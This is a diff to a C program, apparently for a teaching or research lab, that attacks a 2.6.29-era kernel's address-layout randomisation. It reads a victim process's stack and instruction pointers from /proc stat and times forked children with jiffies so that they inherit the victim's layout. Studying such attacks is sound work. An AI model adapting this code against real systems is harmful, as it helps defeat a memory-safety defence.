@@ -16,13 +16,12 @@
 #define MMAP	  1
 #define EXE	  2
 /*
- * collision: 3 children for each sum offset in -3..+3.  Each child execs in
- * the exact jiffy it aims at (read from /proc/timer_list); what remains
- * uncertain is the victim's start, which stat gives in 1/100 s: about a
- * jiffy either way at HZ 250.
+ * collision: the pool has one child per jiffy the victim's start could be
+ * (see candidates_max) plus two, as the nearest pids have the least time to
+ * react; POOL_MAX bounds it at high HZ.
  */
-#define POOL 21
-#define PAGE 4096ULL
+#define POOL_MAX 32
+#define PAGE	 4096ULL
 
 static long lab(long op, long a, long b)
 {
@@ -67,24 +66,70 @@ static uint64_t stat_field(const char *pid, int k, char *state)
 	return (uint64_t)atol(p);
 }
 
-/* The victim's pid: the process whose cmdline is "lab victim". */
-static int find_victim(void)
+/* The exact jiffies, from /proc/timer_list (world-readable in 2.6.29). */
+static uint64_t now_jiffies(void)
 {
-	for (int tries = 0; tries < 1000; tries++) {
-		int pids[64];
-		long n = syscall2(__NR_getdents_pids, pids, 64);
+	char buf[256], *p;
 
-		for (long i = 0; i < n; i++) {
-			char path[40], buf[64];
+	read_file("/proc/timer_list", buf, sizeof(buf));
+	for (p = buf; *p; p++)
+		if (!strncmp(p, "jiffies: ", 9))
+			return (uint64_t)atol(p + 9);
+	return 0;
+}
 
-			snprintf(path, sizeof(path), "/proc/%d/cmdline", pids[i]);
-			if (read_file(path, buf, sizeof(buf)) == 11 &&
-			    !memcmp(buf, "lab\0victim", 11))
-				return pids[i];
-		}
-		sleep_ms(4);
+static int is_victim(int pid)
+{
+	char path[40], buf[64];
+
+	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+	return read_file(path, buf, sizeof(buf)) == 11 && !memcmp(buf, "lab\0victim", 11);
+}
+
+/*
+ * The victim's pid: the process whose cmdline is "lab victim".  The kernel
+ * spawns it as soon as we yield after READY, and hands out pids in order,
+ * so `hint` (the next pid after our own processes) is all we probe at
+ * first; every process is looked at (each once) only if that fails for a
+ * while.  Polling yields rather than sleeps: a sleep costs two ticks, and
+ * the collision's children have few to spare; probing one pid keeps the
+ * pollers from starving the kernel's spawn of the victim.
+ */
+static int scan_new_pids(int *seen, int *nseen)
+{
+	int pids[64];
+	long n = syscall2(__NR_getdents_pids, pids, 64);
+
+	for (long i = 0; i < n; i++) {
+		int k = 0;
+
+		while (k < *nseen && seen[k] != pids[i])
+			k++;
+		if (k < *nseen)
+			continue;
+		if (is_victim(pids[i]))
+			return pids[i];
+		if (*nseen < 64)
+			seen[(*nseen)++] = pids[i];
 	}
 	return -1;
+}
+
+static int find_victim(long hz, int hint)
+{
+	uint64_t deadline = now_jiffies() + 10 * (uint64_t)hz;
+	int seen[64], nseen = 0, v;
+
+	for (unsigned round = 0;; round++) {
+		for (int d = 0; hint > 0 && d < 4; d++)
+			if (is_victim(hint + d))
+				return hint + d;
+		if ((hint <= 0 || round >= 64) && (v = scan_new_pids(seen, &nseen)) > 0)
+			return v;
+		if (round % 16 == 15 && now_jiffies() >= deadline)
+			return -1;
+		sched_yield();
+	}
 }
 
 /* This process's layout from its own maps (always readable) and a probe mmap. */
@@ -150,10 +195,10 @@ static void proc_leak(const char *vpid)
 	char state = 0;
 	uint64_t ss, eip, own_eip, own_exe, dummy;
 
-	for (int i = 0; i < 500 && state != 'S'; i++) {
+	for (int i = 0; i < 100000 && state != 'S'; i++) {
 		stat_field(vpid, 3, &state); /* wait until it sleeps in the kernel */
 		if (state != 'S')
-			sleep_ms(4);
+			sched_yield();
 	}
 	ss = stat_field(vpid, 28, 0);
 	eip = stat_field(vpid, 30, 0);
@@ -173,44 +218,60 @@ static void proc_leak(const char *vpid)
 		brute_force(); /* the leak is closed: nothing better than a guess */
 }
 
-/* The exact jiffies, from /proc/timer_list (world-readable in 2.6.29). */
-static uint64_t now_jiffies(void)
+/*
+ * Wakes in the tick that makes jiffies = target (nanosleep rounds up and
+ * adds a tick, as Linux's does, and a timer wake-up runs first); the yield
+ * loop covers a tick that passed between reading jiffies and sleeping.
+ */
+static void sleep_until_jiffy(uint64_t target, long hz)
 {
-	char buf[256], *p;
+	uint64_t now = now_jiffies();
 
-	read_file("/proc/timer_list", buf, sizeof(buf));
-	for (p = buf; *p; p++)
-		if (!strncmp(p, "jiffies: ", 9))
-			return (uint64_t)atol(p + 9);
-	return 0;
+	if (target > now + 1) {
+		uint64_t ns = (target - now - 1) * 1000000000ULL / (uint64_t)hz;
+		struct timespec ts = {(int64_t)(ns / 1000000000ULL), (int64_t)(ns % 1000000000ULL)};
+
+		nanosleep(&ts, 0);
+	}
+	while (now_jiffies() < target)
+		sched_yield();
+}
+
+/*
+ * How many jiffies one centisecond of stat's start time can stand for, plus
+ * one: the layout may be drawn a tick after the start is stamped.
+ */
+static long candidates_max(long hz)
+{
+	return (hz + 99) / 100 + 1;
 }
 
 /*
  * ipid-2.6.29 is a function of pid + jiffies: a process of ours whose pid +
  * jiffies at exec equals the victim's gets the victim's layout.  Children
- * forked before the victim have smaller pids; each waits until jiffies =
- * victim_pid + victim_jiffies - own_pid (+ a small offset covering the
- * centisecond resolution of stat's start time) and then execs.  The hz
- * argument is only needed to turn stat's start time into jiffies.
+ * forked before the victim have smaller pids; child idx takes one jiffy j
+ * the victim may have started in (stat's start time is floor(j * 100 / hz)
+ * centiseconds, Linux's jiffies_to_clock_t), waits until jiffies =
+ * victim_pid + j - own_pid, and execs.  Knowing hz, the kernel's published
+ * configuration, is all the attacker needs besides /proc.
  */
-static void collision_child(int idx, long hz)
+static void collision_child(int idx, long pool, long hz)
 {
 	char vpid[12], *argv[] = {"lab", "report", 0};
-	int victim = find_victim();
-	long offset = idx % 7 - 3;
-	uint64_t start_cs, vj, target, now;
+	int victim = find_victim(hz, (int)(getpid() + pool - idx));
+	uint64_t seen = now_jiffies(), cs, first, last, n, target;
 
 	if (victim < 0)
 		exit(1);
 	snprintf(vpid, sizeof(vpid), "%d", victim);
-	start_cs = stat_field(vpid, 22, 0);
-	vj = start_cs * (uint64_t)hz / 100 + (uint64_t)hz / 200;
-	target = (uint64_t)victim + vj - (uint64_t)getpid() + (uint64_t)offset;
-	now = now_jiffies();
-	if (target > now + 2)
-		sleep_ms((unsigned)((target - now - 2) * 1000 / (uint64_t)hz));
-	while (now_jiffies() < target)
-		sched_yield(); /* the last tick or two: exec in the target jiffy */
+	cs = stat_field(vpid, 22, 0);
+	first = (cs * (uint64_t)hz + 99) / 100;	     /* ceil(cs * hz / 100) */
+	last = ((cs + 1) * (uint64_t)hz + 99) / 100; /* the last, + a tick late */
+	if (last > seen)
+		last = seen; /* it had started when we saw it */
+	n = last >= first ? last - first + 1 : 1;
+	target = (uint64_t)victim + first + (uint64_t)idx % n - (uint64_t)getpid();
+	sleep_until_jiffy(target, hz);
 	syscall3(__NR_execve, "lab", argv, 0);
 	exit(1);
 }
@@ -221,11 +282,15 @@ static int attack(const char *strategy, long hz)
 	char vpid[12];
 
 	if (!strcmp(strategy, "pid-jiffies-collision")) {
-		for (int i = 0; i < POOL; i++) {
+		long pool = 2 * candidates_max(hz);
+
+		if (pool > POOL_MAX)
+			pool = POOL_MAX;
+		for (int i = 0; i < pool; i++) {
 			long pid = fork();
 
 			if (pid == 0)
-				collision_child(i, hz);
+				collision_child(i, pool, hz);
 			if (pid < 0)
 				break;
 		}
@@ -241,10 +306,10 @@ static int attack(const char *strategy, long hz)
 		if (pid > 0)
 			wait4((int)pid, &status, 0, 0);
 		lab(OP_READY, 0, 0);
-		return find_victim() > 0 ? 0 : 1;
+		return find_victim(hz, (int)pid + 1) > 0 ? 0 : 1;
 	}
 	lab(OP_READY, 0, 0);
-	victim = find_victim();
+	victim = find_victim(hz, (int)getpid() + 1);
 	if (victim < 0)
 		return 1;
 	snprintf(vpid, sizeof(vpid), "%d", victim);
@@ -261,7 +326,7 @@ int main(int argc, char **argv)
 		return lab(OP_PARK, 0, 0) == 0 ? 0 : 1;
 	if (argc >= 2 && !strcmp(argv[1], "report"))
 		return report();
-	if (argc >= 4 && !strcmp(argv[1], "attack"))
+	if (argc >= 4 && !strcmp(argv[1], "attack") && atol(argv[3]) > 0)
 		return attack(argv[2], atol(argv[3]));
 	printf("usage: lab victim | lab report | lab attack STRATEGY HZ\n");
 	return 2;
